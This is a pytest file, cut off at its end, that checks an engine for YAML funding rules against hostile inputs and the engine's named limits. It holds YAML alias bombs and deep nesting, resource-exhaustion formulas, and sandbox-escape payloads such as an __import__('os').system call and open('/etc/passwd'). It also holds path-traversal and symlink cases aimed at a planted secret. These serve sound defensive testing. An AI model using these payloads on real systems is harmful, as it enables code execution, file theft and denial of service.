"""Hostile inputs that cannot be a small committed file, built in tmp_path (HOSTILE_INPUTS.md).

Each must fail cleanly: one ``FILE:LINE:COL: CODE message`` per problem on stderr, no
traceback, exit 1 for bad data and 2 for bad usage, and finish quickly. Then every named
limit of the loader and of the expression checker: an input just over it is refused with its
code, an input within it is not refused for that reason.

A case on which the engine does not yet behave as required keeps asserting the right
behaviour.
"""

from __future__ import annotations

import json
import os
import pathlib
import re
import resource
import signal
import stat
import subprocess
import sys
import threading
import time

import pytest

from aci_rules.engine.expressions import (
    MAX_EXPRESSION_CHARS,
    MAX_EXPRESSION_DEPTH,
    MAX_EXPRESSION_NODES,
    MAX_POWER_EXPONENT,
    MAX_STRING_LITERAL,
)
from aci_rules.engine.yaml_loader import MAX_DEPTH, MAX_FILE_BYTES, MAX_NODES, MAX_NUMBER_DIGITS

# A small valid ruleset: a taille table, one parameter, one line. Tests break one thing in it.
RULESET = """\
id: mini
title: Minimal ruleset
kind: accord
status: draft
reference: Test
dates:
  in_force: 2019-08-25
taille:
  basis: population
  reference: Test
  confidence: confirmed
  classes:
    - {taille: 1, max: 39999}
    - {taille: 2, min: 40000}
parameters:
  montant:
    unit: EUR
    by_taille: {1: 50000, 2: 60000}
    reference: Test
    confidence: confirmed
lines:
  - id: fonctionnement
    label: Fonctionnement
    volet: fonctionnement
    amount: montant
    reference: Test
"""
RULES_FOLDER = pathlib.Path(__file__).resolve().parent.parent / "rules"
AMOUNT_LINE = RULESET.splitlines().index("    amount: montant") + 1
AMOUNT_COL = len("    amount: ") + 1

PROFILE = """\
name: CPTS Test
population: 50000
members: 10
contract_signed: 2020-03-15
"""


def with_amount(expression: str) -> str:
    return RULESET.replace("    amount: montant\n", f"    amount: {expression}\n")


def with_when(expression: str) -> str:
    return RULESET.replace("    amount: montant\n", f"    when: {expression}\n    amount: montant\n")


# ------------------------------------------------------------------------------- checking


def diagnostics(stderr: str):
    """(file, code, line, col, message) of each stderr line; fails on a line of another form."""
    form = re.compile(r"(?P<file>[^:]+)(?::(?P<line>[0-9]+)(?::(?P<col>[0-9]+))?)?: "
                      r"(?P<code>[EW][0-9]{3}) (?P<message>\S.*)")
    found = []
    for text in stderr.splitlines():
        match = form.fullmatch(text)
        assert match, f"stderr line not of the form FILE:LINE:COL: CODE message: {text!r}"
        found.append((match["file"], match["code"], int(match["line"]) if match["line"] else None,
                      int(match["col"]) if match["col"] else None, match["message"]))
    return found


def assert_clean(result, exit_code: int):
    assert result.exception is None, repr(result.exception)
    assert "Traceback" not in result.stdout + result.stderr
    assert result.exit_code == exit_code, (result.exit_code, result.stdout, result.stderr)


ANY = object()  # a line or column that is not checked


def assert_refused(result, filename, code: str, line=ANY, col=ANY):
    """Exit 1, only diagnostics on stderr, one of them ``code`` at ``line``/``col`` in ``filename``.

    ``line`` None: the diagnostic has no position (a problem of the whole file).
    """
    assert_clean(result, 1)
    found = diagnostics(result.stderr)
    assert any(f == str(filename) and c == code and (line is ANY or l == line) and (col is ANY or k == col)
               for f, c, l, k, _ in found), f"expected {code} line {line} col {col}:\n{result.stderr}"
    return found


def eval_refuses(run_cli, args, filename, code: str, line=ANY, col=ANY):
    """``aci-rules eval ARGS`` exits 1 with ``code`` in ``filename``; nothing on stdout."""
    result = run_cli("eval", *args)
    found = assert_refused(result, filename, code, line, col)
    assert result.stdout == "", result.stdout
    return found


def validate_refuses(run_cli, path, code, line=ANY, col=ANY):
    """``validate`` exits 1 with ``code``; stdout is only the one-line summary; JSON mode agrees."""
    result = run_cli("validate", "--lang", "en", path)
    found = assert_refused(result, path, code, line, col)
    assert re.fullmatch(re.escape(str(path)) + r": (ruleset|profile|unreadable), [0-9]+ problems?",
                        result.stdout.rstrip("\n")), result.stdout
    as_json = run_cli("validate", "--format", "json", path)
    assert_clean(as_json, 1)
    document = json.loads(as_json.stdout)
    assert code in {d["code"] for entry in document["files"] for d in entry["diagnostics"]}
    return found


def validate_accepts(run_cli, path):
    result = run_cli("validate", "--lang", "en", path)
    assert_clean(result, 0)
    assert result.stderr == ""
    return result


def codes(result) -> set:
    return {c for _, c, _, _, _ in diagnostics(result.stderr)}


# ------------------------------------------------------------------------------- YAML bombs


class TestYamlBombsAreDefused:
    def test_an_alias_bomb_is_refused_at_its_first_anchor(self, run_cli, tmp_path):
        lol = "a: &a [" + ", ".join(["lol"] * 9) + "]\n"
        for previous, name in zip("abcdefgh", "bcdefghi"):
            lol += f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]\n"
        assert len(lol) < 600  # a few hundred bytes that expand to 9**9 strings
        path = tmp_path / "bomb.yaml"
        path.write_text(lol)
        validate_refuses(run_cli, path, "E006", line=1, col=4)

    def test_an_alias_bomb_as_a_profile_for_eval_is_refused(self, run_cli, tmp_path):
        path = tmp_path / "bomb.yaml"
        path.write_text("name: &n [x, x, x]\npopulation: [*n, *n, *n]\n")
        eval_refuses(run_cli, [path, "--date", "2023-06-01"], str(path), "E006", line=1, col=7)

    @pytest.mark.parametrize("opening, closing", [("[", "]"), ("{a: ", "}")], ids=["brackets", "braces"])
    def test_fifty_thousand_nested_brackets_are_stopped_by_the_depth_check(self, run_cli, tmp_path,
                                                                           opening, closing):
        path = tmp_path / "deep.yaml"
        path.write_text(opening * 50_000 + "1" + closing * 50_000 + "\n")
        found = validate_refuses(run_cli, path, "E009", line=1)
        assert len(found) == 1

    def test_fifty_thousand_nested_block_sequences_are_stopped(self, run_cli, tmp_path):
        path = tmp_path / "deep.yaml"
        path.write_text("- " * 50_000 + "x\n")
        validate_refuses(run_cli, path, "E009", line=1)

    @pytest.mark.parametrize("parser", ["CSafeLoader", "SafeLoader"])
    @pytest.mark.parametrize("text, column", [
        ("[" * 50_000 + "1" + "]" * 50_000 + "\n", MAX_DEPTH + 1),
        ("{a: " * 50_000 + "1" + "}" * 50_000 + "\n", 4 * MAX_DEPTH + 1),
        ("- " * 50_000 + "x\n", 2 * MAX_DEPTH + 1),
    ], ids=["brackets", "braces", "block"])
    def test_our_depth_limit_holds_whatever_the_parser_does(self, monkeypatch, parser, text, column):
        """libyaml as bundled with PyYAML 6.0.4 refuses 1000 levels by itself ("exceeded maximum
        nesting depth"); with it or without it, the error is our E009 at our limit's node."""
        from aci_rules.engine import yaml_loader
        from aci_rules.engine.diagnostic import InputError

        if not hasattr(yaml_loader.yaml, parser):
            pytest.skip(f"PyYAML without {parser}")
        monkeypatch.setattr(yaml_loader, "_Parser", getattr(yaml_loader.yaml, parser))
        with pytest.raises(InputError) as caught:
            yaml_loader.parse_document(text.encode(), "deep.yaml")
        found = [(d.code, d.line, d.column) for d in caught.value.diagnostics]
        assert found == [("E009", 1, column)], found

    def test_deep_nesting_in_a_profile_for_eval_is_refused(self, run_cli, tmp_path):
        path = tmp_path / "deep.yaml"
        path.write_text("name: x\npopulation: " + "[" * 50_000 + "]" * 50_000 + "\n")
        eval_refuses(run_cli, [path, "--date", "2023-06-01"], str(path), "E009", line=2)


# ------------------------------------------------------------------------------- files that are not small texts


class TestFilesThatAreNotSmallTexts:
    def test_a_file_over_the_size_limit_is_refused_before_parsing(self, run_cli, tmp_path):
        path = tmp_path / "big.yaml"
        path.write_bytes(b"name: x\n" + b"#" * (MAX_FILE_BYTES + 1 - 8))
        assert path.stat().st_size == MAX_FILE_BYTES + 1
        found = validate_refuses(run_cli, path, "E001", line=None)
        assert str(MAX_FILE_BYTES) in found[0][4]

    def test_a_hundred_megabyte_file_is_refused_without_reading_it(self, run_cli, tmp_path):
        path = tmp_path / "huge.yaml"
        with open(path, "wb") as handle:  # sparse: no 100 MB written to the disk
            handle.truncate(100 * 1024 * 1024)
        validate_refuses(run_cli, path, "E001", line=None)

    @pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="no /dev/zero")
    def test_dev_zero_is_refused(self, run_cli):
        validate_refuses(run_cli, "/dev/zero", "E001", line=None)
        eval_refuses(run_cli, ["/dev/zero", "--date", "2023-06-01"], "/dev/zero", "E001", line=None)

    def test_a_fifo_is_refused_without_blocking(self, run_cli, tmp_path):
        fifo = tmp_path / "pipe.yaml"
        os.mkfifo(fifo)
        done = threading.Event()

        def unblock():  # if the engine ever opens the FIFO, give it an end of file instead of a hang
            while not done.wait(0.2):
                try:
                    os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
                except OSError:
                    pass

        watchdog = threading.Thread(target=unblock, daemon=True)
        watchdog.start()
        try:
            validate_refuses(run_cli, fifo, "E001", line=None)
            eval_refuses(run_cli, [fifo, "--date", "2023-06-01"], str(fifo), "E001", line=None)
        finally:
            done.set()
            watchdog.join()

    def test_a_directory_is_refused(self, run_cli, tmp_path):
        folder = tmp_path / "rules.yaml"
        folder.mkdir()
        validate_refuses(run_cli, folder, "E001", line=None)
        eval_refuses(run_cli, [folder, "--date", "2023-06-01"], str(folder), "E001", line=None)

    def test_a_missing_file_is_reported(self, run_cli, tmp_path):
        validate_refuses(run_cli, tmp_path / "absent.yaml", "E001", line=None)

    def test_a_directory_as_ruleset_is_refused(self, run_cli, tmp_path, write):
        profile = write("p.yaml", PROFILE)
        folder = tmp_path / "rules.yaml"
        folder.mkdir()
        eval_refuses(run_cli, [profile, "--date", "2023-06-01", "--ruleset", folder],
                     str(folder), "E001", line=None)

    @pytest.mark.parametrize("text", ["", "\n\n", "   \n"], ids=["zero-bytes", "newlines", "spaces"])
    def test_an_empty_file_is_refused(self, run_cli, tmp_path, text):
        path = tmp_path / "empty.yaml"
        path.write_text(text)
        validate_refuses(run_cli, path, "E004", line=None)


# ------------------------------------------------------------------------------- encodings


class TestEncodings:
    def test_latin1_bytes_are_refused_at_their_line_and_column(self, run_cli, tmp_path):
        path = tmp_path / "latin1.yaml"
        path.write_bytes("population: 50000\nname: CPTS du café\n".encode("latin-1"))
        found = validate_refuses(run_cli, path, "E002", line=2, col=len("name: CPTS du caf") + 1)
        assert "UTF-8" in found[0][4]

    def test_a_nul_byte_is_refused_at_its_line_and_column(self, run_cli, tmp_path):
        path = tmp_path / "nul.yaml"
        path.write_bytes(b"name: CPTS\npopulation: 500\x0000\n")
        validate_refuses(run_cli, path, "E002", line=2, col=len("population: 500") + 1)

    def test_a_utf8_bom_is_accepted(self, run_cli, tmp_path):
        path = tmp_path / "bom.yaml"
        path.write_bytes(b"\xef\xbb\xbf" + PROFILE.encode("utf-8"))
        result = validate_accepts(run_cli, path)
        assert result.stdout == f"{path}: profile, ok\n"
        assert_clean(run_cli("eval", path, "--date", "2021-01-01"), 0)

    def test_a_bom_does_not_shift_the_positions_of_diagnostics(self, run_cli, tmp_path):
        path = tmp_path / "bom.yaml"
        path.write_bytes(b"\xef\xbb\xbf" + (PROFILE + "members: 3\n").encode("utf-8"))
        validate_refuses(run_cli, path, "E008", line=5, col=1)

    def test_a_bom_ruleset_is_accepted(self, run_cli, tmp_path):
        path = tmp_path / "bom-rules.yaml"
        path.write_bytes(b"\xef\xbb\xbf" + RULESET.encode("utf-8"))
        validate_accepts(run_cli, path)


# ------------------------------------------------------------------------------- expressions


class TestTryingToBreakOut:
    """Escape attempts are refused when the ruleset is compiled: on 'eval' too, never run."""

    @pytest.mark.parametrize("formula, code", [
        ("().__class__", "E103"),
        ("montant.__class__.__bases__", "E103"),
        ("\"'{0.__class__}'.format(1)\"", "E103"),
        ("__import__('os').system('touch /tmp/aci-rules-pwned')", "E103"),
        ("\"__import__('os')\"", "E102"),
        ("open('/etc/passwd')", "E102"),
        ("\"(lambda: 1)()\"", "E103"),
        ("\"lambda: 1\"", "E103"),
        ("montant + (x := 3)", "E103"),
        ("\"[c for c in ()]\"", "E103"),
        ("\"{'a': 1}\"", "E103"),
        ("__builtins__", "E102"),
        ("getattr(montant, '__class__')", "E102"),
        ("eval('1')", "E102"),
        ("\"f'{montant}'\"", "E103"),
    ])
    def test_an_escape_attempt_is_refused_before_evaluation(self, run_cli, write, formula, code):
        ruleset = write("escape.yaml", with_amount(formula))
        profile = write("p.yaml", PROFILE)
        eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                     str(ruleset), code, line=AMOUNT_LINE)
        assert not os.path.exists("/tmp/aci-rules-pwned")


class TestTryingToExhaust:
    def test_a_megabyte_formula_is_refused_before_parsing(self, run_cli, write):
        formula = "montant" + " + 1" * 262_144
        assert len(formula) > 1_000_000
        path = write("mega.yaml", with_amount(formula))
        found = validate_refuses(run_cli, path, "E104", line=AMOUNT_LINE)
        assert len(found) == 1

    def test_five_hundred_nested_unary_minus_are_refused(self, run_cli, write):
        path = write("minus.yaml", with_amount("-" * 500 + "montant"))
        found = validate_refuses(run_cli, path, "E104", line=AMOUNT_LINE)
        assert len(found) == 1

    def test_ten_thousand_nested_parentheses_are_refused(self, run_cli, write):
        path = write("parens.yaml", with_amount("(" * 10_000 + "montant" + ")" * 10_000))
        validate_refuses(run_cli, path, "E104", line=AMOUNT_LINE)

    def test_three_hundred_nested_parentheses_within_the_length_limit_are_refused(self, run_cli, write):
        formula = "(" * 300 + "montant" + ")" * 300
        assert len(formula) <= MAX_EXPRESSION_CHARS
        path = write("parens.yaml", with_amount(formula))
        result = run_cli("validate", path)
        assert_clean(result, 1)
        found = diagnostics(result.stderr)
        assert len(found) == 1 and found[0][1] in ("E101", "E104") and found[0][2] == AMOUNT_LINE, found

    @pytest.mark.parametrize("command", ["eval", "show"])
    def test_a_power_tower_built_with_parentheses_fails_fast(self, tmp_path, command):
        tower = "(" * 9 + "10**10" + ")**10" * 9
        ruleset = tmp_path / "tower.yaml"
        ruleset.write_text(with_amount(tower))
        profile = tmp_path / "p.yaml"
        profile.write_text(PROFILE)
        args = (["eval", str(profile), "--date", "2021-01-01", "--ruleset", str(ruleset)]
                if command == "eval" else ["show", str(ruleset)])

        def limit_memory():  # the child must not take the machine down while the bug lasts
            resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

        try:
            done = subprocess.run(
                [sys.executable, "-c", "from aci_rules.cli.main import main; main()", *args],
                capture_output=True, text=True, timeout=3, preexec_fn=limit_memory)
        except subprocess.TimeoutExpired:
            pytest.fail(f"{command}: still computing after 3 s")
        assert "Traceback" not in done.stdout + done.stderr
        if command == "show":
            # The barème computes what it can and shows the rest as its formula.
            assert done.returncode == 0 and "formule : " in done.stdout, (done.returncode, done.stderr)
            return
        assert done.returncode == 1, (done.returncode, done.stderr)
        assert {"E103", "E104", "E402"} & {c for _, c, _, _, _ in diagnostics(done.stderr)}

    def test_a_text_repeated_a_billion_times_fails_at_evaluation_without_allocating(
            self, run_cli, write):
        ruleset = write("repeat.yaml", with_amount("\"'a' * 10**9\""))
        profile = write("p.yaml", PROFILE)
        eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                     str(ruleset), "E402", line=AMOUNT_LINE)

    def test_a_decimal_power_overflow_fails_at_evaluation(self, run_cli, write):
        ruleset = write("overflow.yaml", with_amount("(((montant * 1.0) ** 10) ** 10) ** 10"))
        profile = write("p.yaml", PROFILE)
        eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                     str(ruleset), "E402", line=AMOUNT_LINE)


# ------------------------------------------------------------------------------- evaluation errors


class TestEvaluationErrors:
    def test_a_division_by_zero_names_the_line_and_the_expression(self, run_cli, write):
        ruleset = write("div.yaml", with_amount("montant / members"))
        profile = write("p.yaml", PROFILE.replace("members: 10", "members: 0"))
        found = eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                             str(ruleset), "E401", line=AMOUNT_LINE)
        message = next(m for f, c, _, _, m in found if c == "E401")
        assert "fonctionnement" in message and "montant / members" in message, message

    def test_a_division_by_zero_in_json_is_one_json_document(self, run_cli, write):
        ruleset = write("div.yaml", with_amount("montant / members"))
        profile = write("p.yaml", PROFILE.replace("members: 10", "members: 0"))
        result = run_cli("eval", profile, "--date", "2021-01-01", "--ruleset", ruleset, "--format", "json")
        assert_clean(result, 1)
        document = json.loads(result.stdout)
        assert [e["code"] for e in document["errors"]] == ["E401"]

    def test_a_type_error_names_the_line_and_the_expression(self, run_cli, write):
        ruleset = write("type.yaml", with_amount("montant + contract_signed"))
        profile = write("p.yaml", PROFILE)
        found = eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                             str(ruleset), "E402", line=AMOUNT_LINE)
        message = next(m for f, c, _, _, m in found if c == "E402")
        assert "fonctionnement" in message and "montant + contract_signed" in message, message

    def test_an_amount_too_large_to_round_is_an_evaluation_error(self, run_cli, write):
        ruleset = write("large.yaml", with_amount("montant * 1e17 * 1e17"))
        profile = write("p.yaml", PROFILE)
        found = eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                             str(ruleset), "E402", line=AMOUNT_LINE)
        assert "fonctionnement" in found[0][4]

    def test_a_huge_number_literal_is_refused_when_the_ruleset_is_read(self, run_cli, write):
        ruleset = write("huge.yaml", with_when("\"(1" + "0" * 1500 + ")**3\""))
        profile = write("p.yaml", PROFILE)
        eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                     str(ruleset), "E104")

    def test_a_condition_giving_a_huge_number_is_an_evaluation_error(self, run_cli, write):
        ruleset = write("huge.yaml", with_when("montant ** 10 ** 10 > 0"))
        profile = write("p.yaml", PROFILE)
        eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                     str(ruleset), "E103")

    def test_a_division_by_zero_in_the_taille_basis_points_at_the_basis(self, run_cli, write):
        basis_line = RULESET.splitlines().index("  basis: population") + 1
        ruleset = write("basis.yaml", RULESET.replace("  basis: population\n", "  basis: population / members\n"))
        profile = write("p.yaml", PROFILE.replace("members: 10", "members: 0"))
        eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                     str(ruleset), "E401", line=basis_line)

    def test_a_division_by_zero_in_an_amendment_points_into_the_amendment(self, run_cli, write):
        avenant = write("avenant.yaml", (
            "id: avenant-test\ntitle: Avenant de test\nkind: avenant\nstatus: draft\n"
            "amends: aci-2019\nreference: Test\ndates:\n  in_force: 2022-04-01\n"
            "changes:\n  lines:\n    change:\n      - id: fonctionnement\n"
            "        amount: montant_fonctionnement / members\n"))
        profile = write("p.yaml", PROFILE.replace("members: 10", "members: 0"))
        found = eval_refuses(run_cli, [profile, "--date", "2022-06-01", "--ruleset", avenant],
                             str(avenant), "E401", line=13)
        message = next(m for f, c, _, _, m in found if c == "E401")
        assert "fonctionnement" in message and "montant_fonctionnement / members" in message, message

    def test_an_error_in_an_inherited_line_points_into_the_base_s_file(self, run_cli, write):
        """The amendment makes a parameter a date; the line of aci-2019 that multiplies it fails,
        and is reported where that line is written (once: at its line and column, in the 16-line
        amendment's name)."""
        avenant = write("amend.yaml", (
            "id: amend\ntitle: Essai\nkind: proposal\nstatus: proposal\nreference: essai\n"
            "dates: {in_force: 2022-04-01}\namends: aci-2019\nchanges:\n  parameters:\n    set:\n"
            "      montant_parcours_fixe:\n        label: x\n        unit: EUR\n        value: 2022-01-01\n"
            "        reference: essai\n        confidence: unverified\n"))
        profile = write("p.yaml", PROFILE + "missions:\n  parcours: {started: 2020-03-15}\n")
        shipped = (RULES_FOLDER / "aci-2019.yaml").read_text(encoding="utf-8").splitlines()
        start = shipped.index("  - id: parcours_fixe")
        offset = next(i for i in range(start, len(shipped)) if shipped[i].startswith("    amount: "))
        found = eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", avenant,
                                              "--as-if-in-force-from", "2021-01-01"],
                             "rules/aci-2019.yaml", "E402", line=offset + 1, col=len("    amount: ") + 1)
        message = found[0][4]
        assert "lines[parcours_fixe].amount" in message, message

    @pytest.mark.parametrize("formula, said, hint", [
        ("montant if contract_signed < '2024-01-01' else 0", "cannot compare a date with a text ('<')",
         "as_date('2024-01-01')"),
        ("members + contract_signed", "cannot compute a number + a date", "add_months()"),
        ("montant if taille in 3 else 0", "'in' needs a list of values such as (3, 4), not a number", None),
        ("montant * add_months(population, 1)", "a function was given a number where it takes a date", None),
        ("montant + letter_of_intent_validated", "cannot compute a number + nothing (None)", "x is not None"),
    ])
    def test_a_type_error_is_told_in_the_rule_s_terms(self, run_cli, write, formula, said, hint):
        ruleset = write("type.yaml", with_amount(f'"{formula}"'))
        profile = write("p.yaml", PROFILE)
        found = eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset, "--lang", "en"],
                             str(ruleset), "E402", line=AMOUNT_LINE)
        message = found[0][4]
        assert said in message and "lines[fonctionnement].amount" in message, message
        assert hint is None or hint in message, message
        for python in ("datetime.date", "'str'", "'int'", "NoneType", "unsupported operand", "not supported between",
                       "attribute", "decimal.Decimal"):
            assert python not in message, message

    def test_the_taille_basis_cannot_read_the_lines(self, run_cli, write):
        basis_line = RULESET.splitlines().index("  basis: population") + 1
        ruleset = write("basis.yaml", RULESET.replace("  basis: population\n",
                                                      "  basis: population + sum_lines('volet', 'fixe')\n"))
        result = run_cli("validate", ruleset)
        assert_refused(result, ruleset, "E103", line=basis_line)
        assert "sum_lines()" in result.stderr

    def test_an_unknown_ruleset_id_lists_the_known_ones(self, run_cli, write):
        profile = write("p.yaml", PROFILE)
        result = run_cli("eval", profile, "--date", "2021-01-01", "--ruleset", "aci-2091")
        assert_clean(result, 1)
        found = diagnostics(result.stderr)
        assert [c for _, c, _, _, _ in found] == ["E404"]
        assert "aci-2019" in found[0][4] and "aci-2091" in found[0][4]
        assert result.stdout == ""

    def test_a_date_with_no_ruleset_in_force_is_refused(self, run_cli, write):
        profile = write("p.yaml", PROFILE)
        result = run_cli("eval", profile, "--date", "2019-01-01")
        assert_clean(result, 1)
        assert codes(result) == {"E403"}
        assert result.stdout == ""

    def test_an_invalid_ruleset_given_by_path_is_reported_in_its_own_file(self, run_cli, write):
        ruleset = write("bad.yaml", with_amount("populaton * 2"))
        profile = write("p.yaml", PROFILE)
        found = eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset, "--lang", "en"],
                             str(ruleset), "E102", line=AMOUNT_LINE, col=AMOUNT_COL)
        assert "in lines[fonctionnement].amount" in found[0][4], found  # the line by its id, not lines[0]

    def test_a_mission_started_before_the_signature_is_a_warning_not_an_error(self, run_cli, write):
        profile = write("p.yaml", PROFILE + "missions:\n  acces_soins: {started: 2019-12-01}\n")
        result = run_cli("eval", profile, "--date", "2021-01-01", "--format", "json")
        assert_clean(result, 0)
        warnings = json.loads(result.stdout)["warnings"]
        assert any(w["code"] == "W001" and "signature" in w["message"] for w in warnings), warnings


class TestUsageErrors:
    @pytest.mark.parametrize("args", [
        ["--date", "2023-02-30"],
        ["--date", "2023-1-1"],
        ["--date", "01/02/2023"],
        ["--date", "2202-01-01"],
        [],
    ], ids=["feb-30", "no-padding", "slashes", "year-2202", "missing-date"])
    def test_a_bad_date_option_is_a_usage_error(self, run_cli, write, args):
        profile = write("p.yaml", PROFILE)
        result = run_cli("eval", profile, *args)
        assert_clean(result, 2)
        assert result.stdout == ""
        assert "--date" in result.stderr

    def test_validate_without_a_file_is_a_usage_error(self, run_cli):
        result = run_cli("validate")
        assert_clean(result, 2)

    def test_an_unknown_format_is_a_usage_error(self, run_cli, write):
        profile = write("p.yaml", PROFILE)
        assert_clean(run_cli("eval", profile, "--date", "2021-01-01", "--format", "xml"), 2)


# ------------------------------------------------------------------------------- named limits


class TestEachLimitIsEnforced:
    """Just over each limit: refused with its code. Within it: not refused for that reason."""

    def test_max_file_bytes(self, run_cli, tmp_path):
        over = tmp_path / "over.yaml"
        over.write_bytes(PROFILE.encode() + b"#" * (MAX_FILE_BYTES + 1 - len(PROFILE)))
        assert over.stat().st_size == MAX_FILE_BYTES + 1
        validate_refuses(run_cli, over, "E001", line=None)
        at = tmp_path / "at.yaml"
        at.write_bytes(PROFILE.encode() + b"#" * (MAX_FILE_BYTES - len(PROFILE)))
        assert at.stat().st_size == MAX_FILE_BYTES
        validate_accepts(run_cli, at)

    def test_max_depth(self, run_cli, tmp_path):
        over = tmp_path / "over.yaml"
        over.write_text("[" * (MAX_DEPTH + 1) + "]" * (MAX_DEPTH + 1) + "\n")
        validate_refuses(run_cli, over, "E009", line=1)
        within = tmp_path / "within.yaml"
        within.write_text("[" * (MAX_DEPTH - 1) + "]" * (MAX_DEPTH - 1) + "\n")
        result = run_cli("validate", within)
        assert_clean(result, 1)  # a list is not a profile, but it is read
        assert "E009" not in codes(result)

    def test_max_nodes(self, run_cli, tmp_path):
        over = tmp_path / "over.yaml"
        over.write_text("[" + ", ".join(["0"] * MAX_NODES) + "]\n")
        validate_refuses(run_cli, over, "E009", line=1)
        within = tmp_path / "within.yaml"
        within.write_text("[" + ", ".join(["0"] * (MAX_NODES - 10)) + "]\n")
        result = run_cli("validate", within)
        assert_clean(result, 1)
        assert "E009" not in codes(result)

    def test_max_number_digits(self, run_cli, write):
        def population(digits):
            return PROFILE.replace("population: 50000", "population: " + "1" * digits)

        over = write("over.yaml", population(MAX_NUMBER_DIGITS + 1))
        validate_refuses(run_cli, over, "E010", line=2, col=len("population: ") + 1)
        within = write("within.yaml", population(MAX_NUMBER_DIGITS))
        result = run_cli("validate", within)
        assert_clean(result, 1)  # over the schema's maximum population, but read as a number
        assert codes(result) == {"E204"}

    def test_max_expression_chars(self, run_cli, write):
        def formula(length):
            # White space inside a formula counts towards its length (number literals have
            # their own limit, MAX_NUMBER_DIGITS).
            head, tail = "montant * 1.0", "+ 0"
            return head + " " * (length - len(head) - len(tail)) + tail

        assert len(formula(MAX_EXPRESSION_CHARS + 1)) == MAX_EXPRESSION_CHARS + 1
        over = write("over.yaml", with_amount(formula(MAX_EXPRESSION_CHARS + 1)))
        validate_refuses(run_cli, over, "E104", line=AMOUNT_LINE)
        validate_accepts(run_cli, write("at.yaml", with_amount(formula(MAX_EXPRESSION_CHARS))))

    def test_max_expression_depth(self, run_cli, write):
        over = write("over.yaml", with_amount("-" * (MAX_EXPRESSION_DEPTH + 1) + "montant"))
        validate_refuses(run_cli, over, "E104", line=AMOUNT_LINE)
        validate_accepts(run_cli, write("within.yaml", with_amount("-" * (MAX_EXPRESSION_DEPTH - 2) + "montant")))

    def test_max_expression_nodes(self, run_cli, write):
        def formula(count):
            return "max(montant" + ", 1" * count + ")"

        assert len(formula(MAX_EXPRESSION_NODES + 1)) <= MAX_EXPRESSION_CHARS  # not the length limit
        over = write("over.yaml", with_amount(formula(MAX_EXPRESSION_NODES + 1)))
        validate_refuses(run_cli, over, "E104", line=AMOUNT_LINE)
        validate_accepts(run_cli, write("within.yaml", with_amount(formula(MAX_EXPRESSION_NODES - 10))))

    def test_max_power_exponent(self, run_cli, write):
        over = write("over.yaml", with_amount(f"montant ** {MAX_POWER_EXPONENT + 1}"))
        validate_refuses(run_cli, over, "E103", line=AMOUNT_LINE, col=AMOUNT_COL)
        validate_accepts(run_cli, write("at.yaml", with_amount(f"montant ** {MAX_POWER_EXPONENT}")))

    def test_a_negative_or_fractional_power_exponent_is_refused(self, run_cli, write):
        for exponent in ("-1", "0.5", "montant"):
            path = write(f"pow{exponent}.yaml", with_amount(f"montant ** {exponent}"))
            validate_refuses(run_cli, path, "E103", line=AMOUNT_LINE, col=AMOUNT_COL)

    def test_max_string_literal(self, run_cli, write):
        over = write("over.yaml", with_when(f"\"population != '{'a' * (MAX_STRING_LITERAL + 1)}'\""))
        validate_refuses(run_cli, over, "E104", line=AMOUNT_LINE)
        validate_accepts(run_cli, write("at.yaml", with_when(f"\"population != '{'a' * MAX_STRING_LITERAL}'\"")))


# ------------------------------------------------------------------------------- a proposal from another party


def _run_subprocess(args, timeout=60, **kwargs):
    """``aci-rules ARGS`` in a process of its own, bounded in time and memory."""
    def limit_memory():
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    try:
        return subprocess.run([sys.executable, "-c", "from aci_rules.cli.main import main; main()", *map(str, args)],
                              capture_output=True, text=True, timeout=timeout, preexec_fn=limit_memory, **kwargs)
    except subprocess.TimeoutExpired:
        pytest.fail(f"still running after {timeout} s: {args}")


SQUARES = RULESET.replace("lines:\n", "definitions:\n  d0: population\n" + "".join(
    f"  d{k}: d{k - 1} * d{k - 1}\n" for k in range(1, 21)) + "lines:\n").replace(
    "    amount: montant\n", "    amount: \"montant if d20 > 0 else 0\"\n")


class TestAProposalFromAnotherParty:
    """HOSTILE_INPUTS.md 28-34: each was found open on the main branch of November 2026."""

    SECRET = "SECRET=hunter2-do-not-print"

    def test_a_test_case_profile_path_out_of_its_folder_is_refused_unread(self, run_cli, tmp_path):
        secret = tmp_path / "secret.yaml"
        secret.write_text(f"# {self.SECRET}\ntoken: {self.SECRET}\n")
        cases = tmp_path / "cases"
        cases.mkdir()
        for written in ("../secret.yaml", str(secret), "/etc/passwd"):
            case = cases / "case.yaml"
            case.write_text(f"cases:\n  - name: x\n    date: 2023-06-01\n    profile: {written}\n"
                            "    source: Test\n    expect: {total: 1}\n")
            result = run_cli("test", case)
            assert "hunter2" not in result.stdout + result.stderr and "root:" not in result.stdout + result.stderr
            assert "E012" in result.stdout + result.stderr and ":4:14: E012" in result.stdout, result.stdout
            assert result.exit_code == 1

    def test_a_symbolic_link_in_a_folder_of_profiles_is_not_followed(self, run_cli, tmp_path):
        folder = tmp_path / "profiles"
        folder.mkdir()
        (folder / "a.yaml").write_text(PROFILE)
        secret = tmp_path / "secret.yaml"
        secret.write_text(f"name: {self.SECRET}\n")
        (folder / "b.yaml").symlink_to(secret)
        result = run_cli("batch", folder, "--date", "2021-01-01")
        assert_refused(result, folder / "b.yaml", "E012", line=None)
        assert "hunter2" not in result.stdout + result.stderr

    def test_a_file_that_is_no_yaml_mapping_is_never_quoted(self, run_cli, tmp_path):
        path = tmp_path / "id_ed25519.yaml"
